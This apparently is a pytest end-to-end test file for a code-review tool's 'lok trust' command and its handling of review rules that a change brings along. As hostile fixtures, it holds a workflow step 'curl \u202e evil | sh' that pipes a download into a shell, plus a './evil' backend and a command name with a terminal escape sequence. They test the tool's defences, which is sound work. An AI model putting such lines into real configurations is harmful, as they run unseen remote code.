"""`lok trust`, and rules that the reviewed change brings along, through real hooks."""

from __future__ import annotations

import json
import os
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.end_to_end import reviewer
from tests.end_to_end.conftest import SETTINGS, Project, Reviewer
from tests.end_to_end.terminal import Terminal

Configure = Callable[..., Reviewer]
BAD = "value = PLANTED_BUG\n"
EDITED = "this change edits the review's own rules"


@pytest.fixture
def log(project: Project, tmp_path: Path) -> Path:
    """The scripted reviewer by way of the user's own settings; what it was asked goes to this file."""
    arguments = [reviewer.__file__, str(tmp_path / "asked"), "reviews"]
    project.machine.own_settings(
        SETTINGS.format(command=json.dumps(sys.executable), arguments=json.dumps(arguments), analysers="false")
    )
    return tmp_path / "asked"


def theirs(tmp_path: Path, flag: str = "") -> str:
    """A lok.toml that brings its own reviewer along."""
    arguments = [reviewer.__file__, str(tmp_path / "theirs"), "reviews"]
    return (
        f"[backends.theirs{flag}]\ncommand = {json.dumps(sys.executable)}\nargs = {json.dumps(arguments)}\n"
        f'[tasks.hunt]\nbackends = ["theirs{flag}"]\n'
    )


@contextmanager
def on_a_terminal(project: Project, *argv: str) -> Iterator[Terminal]:
    terminal = Terminal(argv, project.path, project.machine.environment)
    try:
        yield terminal
    finally:
        terminal.close()


def test_a_repositorys_reviewer_runs_only_once_trusted(project: Project, log: Path, tmp_path: Path) -> None:
    project.plain_hook("pre-commit", "lok-hunt")
    project.seed({"lok.toml": theirs(tmp_path)})
    project.stage("a.py", "x = 1\n")
    before = project.commit()
    assert "ignored until you trust it (see them with `lok trust`): backends.theirs" in " ".join(before.said.split())
    assert not (tmp_path / "theirs").exists()

    assert project.run("lok", "trust", "--yes").code == 0
    project.stage("a.py", "x = 2\n")
    after = project.commit()
    assert "trust" not in after.said
    assert (tmp_path / "theirs").exists()


def test_a_change_of_what_was_trusted_needs_trust_again(project: Project, log: Path, tmp_path: Path) -> None:
    project.seed({"lok.toml": theirs(tmp_path)})
    project.run("lok", "trust", "--yes")
    project.seed({"lok.toml": theirs(tmp_path) + '[backends.codex]\ncommand = "./evil"\n'})
    project.stage("a.py", "x = 1\n")
    done = project.run("lok-hunt")

    assert "ignored until you trust it" in done.said
    assert not (tmp_path / "theirs").exists()


def test_revoking_ends_it(project: Project, log: Path, tmp_path: Path) -> None:
    project.seed({"lok.toml": theirs(tmp_path)})
    project.run("lok", "trust", "--yes")
    assert "trusted any more" in project.run("lok", "trust", "--revoke").said
    project.stage("a.py", "x = 1\n")

    assert "ignored until you trust it" in project.run("lok-hunt").said
    assert "Nothing was trusted" in project.run("lok", "trust", "--revoke").said


def test_a_digest_in_the_environment_trusts_for_one_run(project: Project, log: Path, tmp_path: Path) -> None:
    project.seed({"lok.toml": theirs(tmp_path)})
    project.stage("a.py", "x = 1\n")
    shown = json.loads(project.run("lok", "trust", "--json").said)
    (item,) = shown["items"]
    assert (item["name"], item["trusted"]) == ("lok.toml", False)
    done = project.run("lok-hunt", env={"LOK_TRUST": item["digest"]})

    assert "trust" not in done.said
    assert (tmp_path / "theirs").exists()
    assert not Path(shown["record"]).exists()


@pytest.mark.parametrize(("answer", "code", "is_trusted"), [(b"y\n", 0, True), (b"n\n", 2, False), (b"\n", 2, False)])
def test_it_shows_exactly_what_would_run_and_asks(
    project: Project, tmp_path: Path, answer: bytes, code: int, is_trusted: bool
) -> None:
    project.write("lok.toml", '[backends.theirs]\ncommand = "./review\\u001b[31m"\nargs = ["--fast"]\n')
    project.write("review\x1b[31m", "")
    project.write(".lok/workflows/w.toml", '[[steps]]\nname = "look"\nshell = "curl \\u202e evil | sh"\n')
    with on_a_terminal(project, "lok", "trust", "--color", "never") as terminal:
        terminal.press(answer)
        assert terminal.wait() == code
    shown = terminal.shown()
    for line in (
        'backends.theirs.command = "./review\\u001b[31m"',
        'backends.theirs.args = ["--fast"]',
        ".lok/workflows/w.toml · not trusted",
        "step look runs:",
        "curl \\u202e evil | sh",
        "./review\\x1b[31m: in the repository itself",
        "[y/N]",
    ):
        assert line in shown
    assert "\x1b" not in shown.replace(answer.decode(), "")
    items = json.loads(project.run("lok", "trust", "--json").said)["items"]
    assert [item["trusted"] for item in items] == [is_trusted, is_trusted]


def test_what_is_only_shown_is_not_asked_for(project: Project, tmp_path: Path) -> None:
    project.write("lok.toml", theirs(tmp_path))
    with on_a_terminal(project, "lok", "trust", "--show", "--color", "never") as terminal:
        terminal.press(b"y\n")
        code = terminal.wait()
    assert ("[y/N]" in terminal.shown(), code) == (False, 0)
    assert "lok.toml · not trusted" in terminal.shown()
    assert not json.loads(project.run("lok", "trust", "--json").said)["items"][0]["trusted"]


def test_without_a_terminal_nobody_is_asked(project: Project, tmp_path: Path) -> None:
    project.write("lok.toml", theirs(tmp_path))
    done = project.run("lok", "trust", stdin="y\n")

    assert done.code == 2
    assert "LOK_TRUST=" in done.said
    assert not json.loads(project.run("lok", "trust", "--json").said)["items"][0]["trusted"]


def test_as_json_it_does_what_it_is_told_and_shows_how_things_stand(project: Project, tmp_path: Path) -> None:
    project.write("lok.toml", theirs(tmp_path))
    for flag, is_trusted in (("--show", False), ("--yes", True), ("--show", True), ("--revoke", False)):
        (item,) = json.loads(project.run("lok", "trust", flag, "--json").said)["items"]
        assert item["trusted"] is is_trusted, flag


def test_what_is_staged_committed_and_pinned_is_shown_as_well(project: Project, tmp_path: Path) -> None:
    project.seed({"lok.toml": theirs(tmp_path, "1")})
    project.git("branch", "pinned")
    project.seed({"lok.toml": theirs(tmp_path, "2")})
    project.stage("lok.toml", theirs(tmp_path, "3"))
    project.write("lok.toml", theirs(tmp_path, "4") + '[review]\nconfig_from = "pinned"\n')
    items = json.loads(project.run("lok", "trust", "--json").said)["items"]

    assert [item["name"] for item in items] == ["lok.toml", "index:lok.toml", "HEAD:lok.toml", "pinned:lok.toml"]
    assert project.run("lok", "trust", "--at", "nowhere").code == 2


def test_linked_work_trees_share_trust_and_clones_do_not(project: Project, tmp_path: Path) -> None:
    project.seed({"lok.toml": theirs(tmp_path)})
    project.run("lok", "trust", "--yes")
    project.git("worktree", "add", "-q", tmp_path / "linked")
    project.git("clone", "-q", project.path, tmp_path / "clone")

    def is_trusted(folder: str) -> bool:
        shown = json.loads(project.run("lok", "trust", "--json", "--dir", tmp_path / folder).said)
        return bool(shown["items"][0]["trusted"])

    assert (is_trusted("linked"), is_trusted("clone")) == (True, False)


def test_a_pipe_among_the_workflows_is_not_waited_for(project: Project) -> None:
    (project.path / ".lok" / "workflows").mkdir(parents=True)
    os.mkfifo(project.path / ".lok" / "workflows" / "pipe.toml")
    done = project.run("timeout", "20", "lok", "trust", "--show")
    assert (done.code, ".lok/workflows/pipe.toml: not a regular file" in done.said) == (2, True)


def test_nothing_to_trust_is_said(project: Project) -> None:
    done = project.run("lok", "trust")
    assert (done.code, "Nothing here needs your trust" in done.said) == (0, True)
    assert project.run("lok", "trust", "--dir", "nowhere").code == 2


# --- rules that a change brings along ---


def test_a_commit_cannot_excuse_itself(project: Project, log: Path) -> None:
    project.plain_hook("pre-commit", "lok-hunt")
    project.seed({"lok.toml": '[review]\nfail_on = "high"\n'})
    project.stage("lok.toml", '[review]\nfail_on = "critical"\nexclude = ["*"]\n')
    project.stage("a.py", BAD)
    done = project.commit()

    assert done.code == 1
    assert f"{EDITED} (lok.toml): those of HEAD count" in " ".join(done.said.split())
    project.git("commit", "-q", "--no-verify", "-m", "rules")
    project.stage("b.py", BAD)
    later = project.commit()
    assert (later.code, EDITED in later.said) == (0, False)


def test_new_rules_count_once_they_are_committed(project: Project, log: Path) -> None:
    project.stage("lok.toml", '[review]\nexclude = ["*"]\n')
    project.stage("a.py", BAD)
    done = project.run("lok-hunt")

    assert done.code == 1
    assert f"{EDITED} (lok.toml): it is new" in " ".join(done.said.split())


def test_the_users_own_untracked_rules_count_at_once(project: Project, log: Path) -> None:
    project.write("lok.toml", '[review]\nexclude = ["*"]\n')
    project.stage("a.py", BAD)
    done = project.run("lok-hunt")

    assert (done.code, EDITED in done.said) == (0, False)


def test_an_edit_in_the_work_tree_alone_changes_nothing(project: Project, log: Path) -> None:
    project.seed({"lok.toml": '[review]\nfail_on = "high"\n'})
    project.write("lok.toml", '[review]\nexclude = ["*"]\n')
    project.stage("a.py", BAD)

    assert project.run("lok-hunt").code == 1
    tree = project.run("lok-review", "--working-tree")
    assert (tree.code, EDITED in tree.said) == (1, True)


def test_the_correction_of_broken_rules_can_be_committed(project: Project, log: Path) -> None:
    project.seed({"lok.toml": "[review]\nfail_on = 7\n"})
    project.stage("a.py", BAD)
    assert project.run("lok-hunt").code == 2
    project.stage("lok.toml", '[review]\nfail_on = "low"\n')
    done = project.run("lok-hunt")

    assert done.code == 1
    assert "those of HEAD cannot be used (HEAD:lok.toml: review.fail_on" in " ".join(done.said.split())


@pytest.mark.parametrize("argv", [["lok-review", "main"], ["lok-review", "--commit", "HEAD"], ["lok", "diff", "main"]])
def test_a_branch_is_judged_by_the_rules_it_started_from(project: Project, log: Path, argv: list[str]) -> None:
    project.seed({"lok.toml": '[review]\nfail_on = "high"\n'})
    project.git("checkout", "-q", "-b", "feature")
    project.seed({"lok.toml": '[review]\nexclude = ["*"]\n', "a.py": BAD})
    done = project.run(*argv)

    assert done.code == 1
    assert EDITED in " ".join(done.said.split())


def test_the_note_about_an_older_side_says_how_to_trust_that_one(project: Project, log: Path, tmp_path: Path) -> None:
    project.seed({"lok.toml": theirs(tmp_path)})
    base = project.head()[:12]
    project.git("checkout", "-q", "-b", "feature")
    project.seed({"lok.toml": "", "a.py": "x = 1\n"})
    project.seed({"b.py": "x = 1\n"})
    done = project.run("lok-review", "main")
    assert f"{base}:lok.toml: ignored until you trust it (see them with `lok trust --at {base}`)" in " ".join(
        done.said.split()
    )
    assert project.run("lok", "trust", "--at", base, "--yes").code == 0

    assert "ignored until" not in project.run("lok-review", "main").said
    assert (tmp_path / "theirs").exists()


def test_a_push_is_judged_by_the_rules_the_remote_has(project: Project, log: Path, tmp_path: Path) -> None:
    project.seed({"lok.toml": '[review]\nfail_on = "high"\n'})
    project.git("init", "-q", "--bare", tmp_path / "remote.git")
    project.git("remote", "add", "origin", tmp_path / "remote.git")
    project.git("push", "-q", "origin", "main")
    project.seed({"lok.toml": '[review]\nexclude = ["*"]\n', "a.py": BAD})
    project.plain_hook("pre-push", 'lok-audit "$@"')
    done = project.run("git", "push", "origin", "main")

    assert done.code == 1
    assert EDITED in " ".join(done.said.split())


def test_rules_can_be_pinned_to_a_revision(project: Project, log: Path) -> None:
    project.seed({"lok.toml": '[review]\nfail_on = "high"\n'})
    project.git("branch", "rules")
    project.seed({"lok.toml": '[review]\nexclude = ["*"]\nconfig_from = "rules"\n'})
    project.stage("a.py", BAD)
    assert project.run("lok-hunt").code == 1
    project.stage("lok.toml", '[review]\nexclude = ["*"]\n')
    done = project.run("lok-hunt")

    assert done.code == 1
    assert f"{EDITED} (lok.toml): those of rules count (review.config_from)" in " ".join(done.said.split())


def test_a_pin_that_leads_nowhere_is_the_users_mistake(project: Project, log: Path) -> None:
    project.seed({"lok.toml": '[review]\nconfig_from = "gone"\n'})
    project.stage("a.py", BAD)
    done = project.run("lok-hunt")

    assert done.code == 2
    assert "review.config_from: 'gone' is not a commit" in done.said


def test_a_patch_that_edits_the_rules_is_judged_without_them(project: Project, log: Path) -> None:
    project.seed({"lok.toml": '[review]\nfail_on = "high"\n'})
    project.seed({"lok.toml": '[review]\nexclude = ["*"]\n', "a.py": BAD})
    patch = project.git("diff", "HEAD~1") + "\n"
    done = project.run("lok-review", "--diff-file", "-", stdin=patch)

    assert done.code == 1
    assert EDITED in done.said


def test_a_file_named_on_the_command_line_counts_as_it_is(project: Project, log: Path) -> None:
    project.stage("lok.toml", '[review]\nexclude = ["*"]\n')
    project.stage("a.py", BAD)
    done = project.run("lok-hunt", "--config", "lok.toml")

    assert (done.code, EDITED in done.said) == (0, False)
